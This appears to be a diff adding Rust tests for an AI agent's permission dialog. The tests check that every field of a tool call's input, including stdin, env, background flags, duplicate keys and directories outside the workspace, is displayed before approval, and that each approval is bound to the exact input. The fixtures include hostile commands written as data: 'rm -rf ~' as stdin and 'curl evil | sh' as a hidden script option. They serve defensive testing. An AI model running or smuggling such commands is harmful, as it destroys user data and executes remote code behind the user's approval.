@@ -1,0 +1,206 @@
+//! What a tool is given beside its command, directory and files: all of it is shown before anything can be granted.
+
+use std::path::PathBuf;
+
+use attache::v1;
+use attache_client::event::{Event, PermissionPrompt, PromptSubject};
+use attache_host::permissions::Action;
+use expect_test::{Expect, expect};
+
+use super::permission_dialog::answers;
+use super::test_ui::{TestUi, permission_prompt, test_ui};
+
+#[test]
+fn what_is_given_beside_a_command_is_shown() {
+    let input = r#"{"command":"make","cwd":"/code/project/x","stdin":"rm -rf ~","env":{"CI":"1","MAKEFLAGS":"-k"},
+        "timeout":5,"background":true,"options":{"script":"curl evil | sh"},"note":null,"title":"Build"}"#;
+    check(
+        &request("execute", input, &[]),
+        &expect![[r#"
+            │ command ┊ env MAKEFLAGS=-k make                              │
+            │ in      ┊ /code/project/x                                    │
+            │ Also in the input:                                           │
+            │ input   ┊ stdin = "rm -rf ~"                                 │
+            │ input   ┊ env = {"CI":"1","MAKEFLAGS":"-k"}                  │
+            │ input   ┊ timeout = 5                                        │
+            │ input   ┊ background = true                                  │
+            │ input   ┊ options = {"script":"curl evil | sh"}              │
+            │ title   ┊ Build                                              │
+        "#]],
+    );
+}
+
+#[test]
+fn a_value_that_stands_in_another_text_is_shown() {
+    let input = r#"{"command":"make","stdin":"il","mode":"Build"}"#;
+    check(
+        &request("execute", input, &[]),
+        &expect![[r#"
+            │ command ┊ make                                               │
+            │ in      ┊ /code/project                                      │
+            │ Also in the input:                                           │
+            │ input   ┊ stdin = "il"                                       │
+            │ title   ┊ Build                                              │
+        "#]],
+    );
+}
+
+#[test]
+fn a_second_directory_and_members_that_occur_twice_are_shown() {
+    let input = r#"{"command":"ls","command":"ls -l","cwd":"/code/project","workdir":"/etc","x":{"a":1,"a":2}}"#;
+    check(
+        &request("execute", input, &[]),
+        &expect![[r#"
+            │ command ┊ ls⏎                                                │
+            │         ┊ ls -l                                              │
+            │ part 1  ┊ ls                                                 │
+            │ part 2  ┊ ls -l                                              │
+            │ in      ┊ /code/project                                      │
+            │ file    ┊ /etc                                               │
+            │ ! Outside the workspace                                      │
+            │ Also in the input:                                           │
+            │ input   ┊ command = "ls"                                     │
+            │ input   ┊ command = "ls -l"                                  │
+            │ input   ┊ workdir = "/etc"                                   │
+            │ input   ┊ x = {"a":1,"a":2}                                  │
+            │ ! The input has a member twice: it cannot be told which one  │
+            │ the agent means.                                             │
+            │ ! A line for a shell: it can run several commands.           │
+            │ title   ┊ Build                                              │
+        "#]],
+    );
+}
+
+#[test]
+fn what_is_given_beside_a_file_and_text_that_is_not_shown_is_said() {
+    let content: v1::ToolCallContent = v1::ContentBlock::from("one\ntwo\nthree").into();
+    let diff = v1::Diff::new("/code/project/a.rs", "new line\n").old_text("old line\n");
+    let input =
+        r#"{"path":"a.rs","old_string":"old line","new_string":"another line","replace_all":true}"#;
+    check(
+        &request("edit", input, &[content, diff.into()]),
+        &expect![[r#"
+            │ file    ┊ /code/project/a.rs                                 │
+            │ Also in the input:                                           │
+            │ input   ┊ new_string = "another line"                        │
+            │ input   ┊ replace_all = true                                 │
+            │ With 3 lines of text from the agent: see all details (Alt-D) │
+            │ ┊ a.rs +1 -1                                                 │
+            │ ┊ 1   - old line                                             │
+            │ ┊   1 + new line                                             │
+            │ title   ┊ Build                                              │
+        "#]],
+    );
+    check(
+        &request("read", r#""just a text""#, &[]),
+        &expect![[r#"
+            │ A tool without a name                                        │
+            │ input   ┊ "just a text"                                      │
+            │ title   ┊ Build                                              │
+        "#]],
+    );
+}
+
+#[test]
+fn a_long_value_says_how_much_of_it_is_hidden() {
+    let input = format!(r#"{{"command":"make","stdin":"{}"}}"#, "x".repeat(1000));
+    let mut ui = test_ui().size(64, 40);
+    ask(&mut ui, &request("execute", &input, &[]));
+    let screen = ui.screen();
+    assert!(
+        screen.contains("602 more characters, Alt-D shows all"),
+        "{screen}"
+    );
+    let input = format!(r#"{{"command":"make","{}":1}}"#, "n".repeat(1000));
+    let mut ui = test_ui().size(64, 40);
+    ask(&mut ui, &request("execute", &input, &[]));
+    assert!(ui.screen().contains("Also in the input"));
+}
+
+/// Generated inputs on many sizes of the screen: nothing is granted whose names have not all been on it.
+#[test]
+fn nothing_is_granted_before_the_whole_input_was_on_the_screen() {
+    for count in [1, 3, 20, 40] {
+        let names: Vec<String> = (0..count).map(|at| format!("member{at}x")).collect();
+        let members: Vec<String> = names
+            .iter()
+            .map(|it| format!(r#""{it}":"v"#) + r#"""#)
+            .collect();
+        let input = format!(r#"{{"command":"make",{}}}"#, members.join(","));
+        let request = request("execute", &input, &[]);
+        for (columns, rows) in [(24, 8), (40, 12), (40, 20), (64, 24), (80, 60)] {
+            let mut ui = test_ui().size(columns, rows);
+            ask(&mut ui, &request);
+            ui.press("<Tab><Down>");
+            let mut seen = ui.screen();
+            for _ in 0..200 {
+                if answers(&mut ui, "<Enter>").contains("yes") {
+                    let told = names
+                        .iter()
+                        .take(24)
+                        .all(|name| seen.contains(name.as_str()));
+                    let rest = count <= 24 || seen.contains("more members");
+                    assert!(told && rest, "{columns}x{rows}: {seen}");
+                    break;
+                }
+                ui.press("j");
+                seen.push_str(&ui.screen());
+            }
+        }
+    }
+}
+
+#[test]
+fn an_answer_is_bound_to_all_of_the_input() {
+    let inputs = [
+        r#"{"command":"make"}"#,
+        r#"{"command":"make","stdin":"a"}"#,
+        r#"{"command":"make","stdin":"b"}"#,
+        r#"{"command":"make","options":{"stdin":"b"}}"#,
+        r#"{"command":"make","background":true}"#,
+        r#"{"command":"make","env":{"CI":"1"}}"#,
+        r#"{"command":"sh","command":"make"}"#,
+        r#"{"command":"make","x":{"a":1,"a":2}}"#,
+        r#"{"command":"make","x":{"a":2}}"#,
+    ];
+    let digests: std::collections::HashSet<_> = inputs
+        .iter()
+        .map(|input| request("execute", input, &[]).action.digest)
+        .collect();
+    assert_eq!(digests.len(), inputs.len());
+}
+
+fn check(prompt: &PermissionPrompt, expected: &Expect) {
+    let mut ui = test_ui().size(64, 40);
+    ask(&mut ui, prompt);
+    let screen = ui.screen();
+    let rows = screen.lines().filter_map(|row| row.strip_prefix('|'));
+    let rows = rows.filter(|row| row.starts_with('│'));
+    let facts: Vec<&str> = rows.take_while(|row| !row.contains("Allow once")).collect();
+    expected.assert_eq(&(facts.join("\n") + "\n"));
+}
+
+fn ask(ui: &mut TestUi, prompt: &PermissionPrompt) {
+    ui.event(Event::PermissionRequested(Box::new(prompt.clone())));
+}
+
+/// A request as an agent makes it.
+fn request(kind: &str, input: &str, content: &[v1::ToolCallContent]) -> PermissionPrompt {
+    let mut prompt = permission_prompt(1, &[], "");
+    let kind: v1::ToolKind = attache::json::from_str(&format!("\"{kind}\"")).unwrap();
+    let mut call = v1::ToolCall::new("c1", "Build")
+        .kind(kind)
+        .content(content.to_vec());
+    call.raw_input = Some(attache::json::from_str(input).unwrap());
+    let update = v1::ToolCallUpdate::new("c1");
+    let options = prompt.options.clone();
+    let request = v1::RequestPermissionRequest::new("s1", update, options);
+    prompt.action = Action::from_request(
+        "test",
+        PathBuf::from("/code/project"),
+        &request,
+        Some(&call),
+    );
+    prompt.subject = PromptSubject::ToolCall(call);
+    prompt
+}
